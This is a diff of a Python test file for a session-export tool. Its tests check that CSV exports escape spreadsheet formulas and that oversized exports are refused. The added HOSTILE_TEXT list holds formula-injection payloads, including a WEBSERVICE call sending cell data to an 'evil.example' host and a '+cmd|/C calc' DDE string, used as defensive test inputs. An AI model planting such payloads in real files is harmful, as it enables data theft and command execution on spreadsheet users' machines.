@@ -5,14 +5,19 @@ from __future__ import annotations
 import csv
 import io
 import json
+import re
+from collections.abc import Callable
 from dataclasses import dataclass
 from datetime import UTC, datetime, timedelta
+from typing import Any
 
 import pytest
 import sqlalchemy as sa
 
+from queries.items import payload_size
 from sessionscope import bulk
-from sessionscope.schema import audit_log, sessions
+from sessionscope.errors import ExportTooLarge
+from sessionscope.schema import audit_log, sessions, tool_calls
 from tests import factories
 from tests.factories import T0
 
@@ -208,6 +213,13 @@ def test_run_in_transaction_commits_on_success(fresh_engine: sa.Engine) -> None:
 # --- export -------------------------------------------------------------------------------------
 
 
+def _export(fn: Callable[..., object], conn: sa.Connection, **kw: Any) -> bytes:
+    """What an export writes (the pages write it to a temporary file), as bytes."""
+    out = io.BytesIO()
+    fn(conn, out=out, **kw)
+    return out.getvalue()
+
+
 def _parse_csv(data: bytes) -> tuple[list[str], list[dict[str, str]]]:
     reader = csv.DictReader(io.StringIO(data.decode("utf-8")))
     return list(reader.fieldnames or []), list(reader)
@@ -220,7 +232,7 @@ def test_export_csv_parses_back_with_the_admin_columns(conn: sa.Connection, worl
         .values(title='=HYPERLINK("http://evil")', completed_at=None, total_errors=7)
     )
     ids = ["ses_a1", "ses_a2", "ses_a3", "ses_b1", "ses_nope"]
-    data = bulk.export_csv(conn, org_id=world.acme, actor=ACTOR, session_ids=ids)
+    data = _export(bulk.export_csv, conn, org_id=world.acme, actor=ACTOR, session_ids=ids)
     columns, rows = _parse_csv(data)
     assert columns == ADMIN_COLUMNS
     assert [r["id"] for r in rows] == ["ses_a3", "ses_a2", "ses_a1"]  # newest first
@@ -237,7 +249,7 @@ def test_export_csv_writes_one_audit_entry_with_the_exported_ids(
     conn: sa.Connection, world: World
 ) -> None:
     ids = ["ses_a1", "ses_b1", "ses_a4"]
-    bulk.export_csv(conn, org_id=world.acme, actor=ACTOR, session_ids=ids)
+    _export(bulk.export_csv, conn, org_id=world.acme, actor=ACTOR, session_ids=ids)
     (entry,) = _audit(conn)
     assert (entry["action"], entry["org_id"]) == ("sessions.export_csv", world.acme)
     assert entry["detail"] == {
@@ -249,7 +261,7 @@ def test_export_csv_writes_one_audit_entry_with_the_exported_ids(
 
 
 def test_export_csv_of_nothing_is_a_header(conn: sa.Connection, world: World) -> None:
-    data = bulk.export_csv(conn, org_id=world.acme, actor=ACTOR, session_ids=["ses_b1"])
+    data = _export(bulk.export_csv, conn, org_id=world.acme, actor=ACTOR, session_ids=["ses_b1"])
     assert _parse_csv(data) == (ADMIN_COLUMNS, [])
 
 
@@ -275,7 +287,9 @@ def test_export_json_has_each_sessions_timeline_in_time_order(
 ) -> None:
     _timeline_world(conn, world)
     ids = ["ses_a1", "ses_a2", "ses_b1"]
-    data = json.loads(bulk.export_json(conn, org_id=world.acme, actor=ACTOR, session_ids=ids))
+    data = json.loads(
+        _export(bulk.export_json, conn, org_id=world.acme, actor=ACTOR, session_ids=ids)
+    )
     assert [s["id"] for s in data] == ["ses_a2", "ses_a1"]
     a2, a1 = data
     assert a2["timeline"] == []
@@ -301,8 +315,12 @@ def test_export_timeline_csv_has_one_row_per_item_in_time_order(
     conn: sa.Connection, world: World
 ) -> None:
     _timeline_world(conn, world)
-    body = bulk.export_timeline_csv(
-        conn, org_id=world.acme, actor=ACTOR, session_ids=["ses_a1", "ses_b1"]
+    body = _export(
+        bulk.export_timeline_csv,
+        conn,
+        org_id=world.acme,
+        actor=ACTOR,
+        session_ids=["ses_a1", "ses_b1"],
     )
     rows = list(csv.DictReader(io.StringIO(body.decode("utf-8"))))
     assert [r["id"] for r in rows] == ["tc_1", "tc_2", "tc_3", "sr_1", "sr_2", "tc_4"]
@@ -315,7 +333,7 @@ def test_export_timeline_csv_has_one_row_per_item_in_time_order(
 
 
 def test_export_json_session_fields_are_plain_json(conn: sa.Connection, world: World) -> None:
-    data = bulk.export_json(conn, org_id=world.acme, actor=ACTOR, session_ids=["ses_a3"])
+    data = _export(bulk.export_json, conn, org_id=world.acme, actor=ACTOR, session_ids=["ses_a3"])
     (a3,) = json.loads(data)
     assert datetime.fromisoformat(a3["archived_at"]) == EARLIER  # archived sessions export too
     assert datetime.fromisoformat(a3["started_at"]).tzinfo is not None
@@ -328,17 +346,185 @@ def test_export_json_keeps_out_rows_of_other_orgs(conn: sa.Connection, world: Wo
     ses = {"id": "ses_a1", "org_id": world.beta, "started_at": T0}
     factories.tool_call(conn, ses, id="tc_beta")
     data = json.loads(
-        bulk.export_json(conn, org_id=world.acme, actor=ACTOR, session_ids=["ses_a1"])
+        _export(bulk.export_json, conn, org_id=world.acme, actor=ACTOR, session_ids=["ses_a1"])
     )
     assert data[0]["timeline"] == []
-    assert bulk.export_json(conn, org_id=world.beta, actor=ACTOR, session_ids=["ses_a1"]) == b"[]"
+    nothing = _export(
+        bulk.export_json, conn, org_id=world.beta, actor=ACTOR, session_ids=["ses_a1"]
+    )
+    assert nothing == b"[]"
 
 
 def test_export_json_writes_one_audit_entry(conn: sa.Connection, world: World) -> None:
     _timeline_world(conn, world)
     ids = ["ses_a1", "ses_nope", "ses_a2"]
-    bulk.export_json(conn, org_id=world.acme, actor=ACTOR, session_ids=ids)
+    _export(bulk.export_json, conn, org_id=world.acme, actor=ACTOR, session_ids=ids)
     (entry,) = _audit(conn)
     assert (entry["action"], entry["actor_email"]) == ("sessions.export_json", ACTOR)
     assert entry["detail"]["ids"] == ["ses_a2", "ses_a1"]
     assert (entry["detail"]["exported"], entry["detail"]["not_found"]) == (2, 1)
+
+
+# --- CSV: nothing a spreadsheet would run ----------------------------------------------------
+
+# A title that splits a row where a reader ends rows at a bare CR (Excel, LibreOffice), each
+# with a formula right after a line break inside the field (issue 15, finding 7).
+HOSTILE_TEXT = [
+    'Quarterly report\r=WEBSERVICE("http://evil.example/?"&A1)',
+    "notes\n+cmd|/C calc!A0",
+    "a\r\n-2+3",
+    "b\r@SUM(1+1)",
+    "c\r\r=1+1",
+    "d\n\t=1+1",
+    "=1+1",
+]
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _physical_lines(data: bytes) -> list[str]:
+    """The file's lines as a reader that ends a line at any CR or LF (bare CR too) sees them."""
+    return re.split(r"\r\n|\r|\n", data.decode("utf-8"))
+
+
+def _assert_no_formula(data: bytes, column: str, value: str, rows: int) -> None:
+    """Every physical line is inert; a quoting-aware reader gets the rows and the text back."""
+    assert not [line for line in _physical_lines(data) if line.startswith(FORMULA_START)]
+    parsed = list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
+    assert len(parsed) == rows
+    [cell] = [r[column] for r in parsed if r[column].replace("'", "") == value]
+    assert cell != value  # escaped: a quote before each formula start
+
+
+@pytest.mark.parametrize("title", HOSTILE_TEXT)
+def test_sessions_csv_has_no_line_that_starts_a_formula(
+    conn: sa.Connection, world: World, title: str
+) -> None:
+    conn.execute(sa.update(sessions).where(sessions.c.id == "ses_a2").values(title=title))
+    ids = ["ses_a1", "ses_a2", "ses_a4"]
+    data = _export(bulk.export_csv, conn, org_id=world.acme, actor=ACTOR, session_ids=ids)
+    _assert_no_formula(data, "title", title, rows=3)
+
+
+@pytest.mark.parametrize("text", HOSTILE_TEXT)
+def test_timeline_csv_has_no_line_that_starts_a_formula(
+    conn: sa.Connection, world: World, text: str
+) -> None:
+    _timeline_world(conn, world)
+    ses = {"id": "ses_a1", "org_id": world.acme, "started_at": T0 + timedelta(hours=1)}
+    user = {"id": world.acme_user, "org_id": world.acme, "email": "user@example.com"}
+    factories.ticket(conn, ses, user, id="sr_3", title=text, summary=text, context=text)
+    factories.tool_call(conn, ses, id="tc_5", seq=5, is_error=True, error_message=text)
+    data = _export(
+        bulk.export_timeline_csv, conn, org_id=world.acme, actor=ACTOR, session_ids=["ses_a1"]
+    )
+    for column in ("title", "summary", "context", "error_message"):
+        _assert_no_formula(data, column, text, rows=8)
+
+
+# --- what one export may read ----------------------------------------------------------------
+
+TIMELINE_EXPORTS = [bulk.export_json, bulk.export_timeline_csv]
+
+
+@pytest.mark.parametrize("fn", TIMELINE_EXPORTS)
+@pytest.mark.parametrize(
+    ("limits", "said"),
+    [
+        (bulk.ExportLimits(items=5), "at least 6 tool calls and tickets"),  # the world has 6
+        (bulk.ExportLimits(payload_bytes=200), "one export holds at most 0.0 MiB"),
+    ],
+)
+def test_an_export_over_a_limit_is_refused_before_anything_is_written(
+    conn: sa.Connection, world: World, fn: Callable[..., int], limits: bulk.ExportLimits, said: str
+) -> None:
+    _timeline_world(conn, world)
+    out = io.BytesIO()
+    with pytest.raises(ExportTooLarge, match=said):
+        fn(conn, org_id=world.acme, actor=ACTOR, session_ids=["ses_a1"], out=out, limits=limits)
+    assert out.getvalue() == b"" and _audit(conn) == []
+
+
+@pytest.mark.parametrize("fn", TIMELINE_EXPORTS)
+def test_an_export_exactly_at_its_limits_is_whole(
+    conn: sa.Connection, world: World, fn: Callable[..., int]
+) -> None:
+    _timeline_world(conn, world)
+    c = tool_calls.c
+    sizes = [sa.func.sum(payload_size(conn, col)) for col in (c.input, c.output)]
+    stored = conn.execute(sa.select(sizes[0] + sizes[1]).where(c.session_id == "ses_a1")).scalar()
+    limits = bulk.ExportLimits(items=6, payload_bytes=int(stored))
+    kw = {"org_id": world.acme, "actor": ACTOR, "session_ids": ["ses_a1"], "limits": limits}
+    data = _export(fn, conn, **kw)
+    if fn is bulk.export_json:
+        assert len(json.loads(data)[0]["timeline"]) == 6
+    else:
+        assert len(_parse_csv(data)[1]) == 6
+
+
+def test_the_sessions_csv_is_refused_over_the_item_limit(conn: sa.Connection, world: World) -> None:
+    out = io.BytesIO()
+    with pytest.raises(ExportTooLarge, match="at least 2 tool calls and tickets"):
+        bulk.export_csv(
+            conn, org_id=world.acme, actor=ACTOR, session_ids=["ses_a1", "ses_a2"], out=out,
+            limits=bulk.ExportLimits(items=1),
+        )  # fmt: skip
+    assert out.getvalue() == b"" and _audit(conn) == []
+
+
+def test_a_timeline_that_grows_past_the_limit_while_exporting_stops_the_export(
+    conn: sa.Connection, world: World, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The check before reading passed (say the session was smaller); the budget while
+    reading stops at the first item over the limit, and no audit entry says it was exported."""
+    _timeline_world(conn, world)
+    monkeypatch.setattr(bulk, "_check_size", lambda conn, org, ids, limits: bulk._Budget(limits))
+    out = io.BytesIO()
+    with pytest.raises(ExportTooLarge, match="at least 4 tool calls and tickets"):
+        bulk.export_json(
+            conn, org_id=world.acme, actor=ACTOR, session_ids=["ses_a1"], out=out,
+            limits=bulk.ExportLimits(items=3),
+        )  # fmt: skip
+    assert _audit(conn) == []
+
+
+def test_payloads_go_out_as_stored_and_text_that_is_not_json_as_a_string(
+    conn: sa.Connection, world: World
+) -> None:
+    ses = {"id": "ses_a1", "org_id": world.acme, "started_at": T0}
+    factories.tool_call(conn, ses, id="tc_1", input=PAYLOAD, output=None)
+    if conn.dialect.name == "sqlite":  # only SQLite keeps text that is not JSON
+        conn.execute(sa.text("UPDATE tool_calls SET output = '{cut off' WHERE id = 'tc_1'"))
+    data = _export(bulk.export_json, conn, org_id=world.acme, actor=ACTOR, session_ids=["ses_a1"])
+    [call] = json.loads(data)[0]["timeline"]
+    assert call["input"] == PAYLOAD
+    assert call["output"] == ("{cut off" if conn.dialect.name == "sqlite" else None)
+
+
+@pytest.mark.parametrize("fn", TIMELINE_EXPORTS)
+def test_large_payloads_read_in_chunks_give_the_same_file(
+    conn: sa.Connection, world: World, fn: Callable[..., int], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Payloads over INLINE_PAYLOAD_BYTES are read piece by piece as they are written (a 100 MB
+    one is never whole in memory); the file is byte for byte the one read whole gives."""
+    _timeline_world(conn, world)
+    kw = {"org_id": world.acme, "actor": ACTOR, "session_ids": ["ses_a1"]}
+    whole = _export(fn, conn, **kw)
+    monkeypatch.setattr(bulk, "INLINE_PAYLOAD_BYTES", 10)
+    monkeypatch.setattr(bulk, "PAYLOAD_CHUNK_BYTES", 7)
+    assert _export(fn, conn, **kw) == whole
+
+
+def test_a_formula_after_a_line_break_between_two_chunks_is_escaped(
+    conn: sa.Connection, world: World, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    if conn.dialect.name != "sqlite":
+        pytest.skip("PostgreSQL keeps jsonb without the line breaks of the text it was given")
+    ses = {"id": "ses_a1", "org_id": world.acme, "started_at": T0}
+    factories.tool_call(conn, ses, id="tc_1")
+    stored = '{"a":\n-1,\r"b":\r\n\t2}'  # valid JSON: line breaks and a tab between tokens
+    conn.execute(sa.text("UPDATE tool_calls SET input = :t WHERE id = 'tc_1'"), {"t": stored})
+    monkeypatch.setattr(bulk, "INLINE_PAYLOAD_BYTES", 1)
+    monkeypatch.setattr(bulk, "PAYLOAD_CHUNK_BYTES", 6)  # the first chunk ends at the "\n"
+    kw = {"org_id": world.acme, "actor": ACTOR, "session_ids": ["ses_a1"]}
+    data = _export(bulk.export_timeline_csv, conn, **kw)
+    _assert_no_formula(data, "input", stored, rows=1)
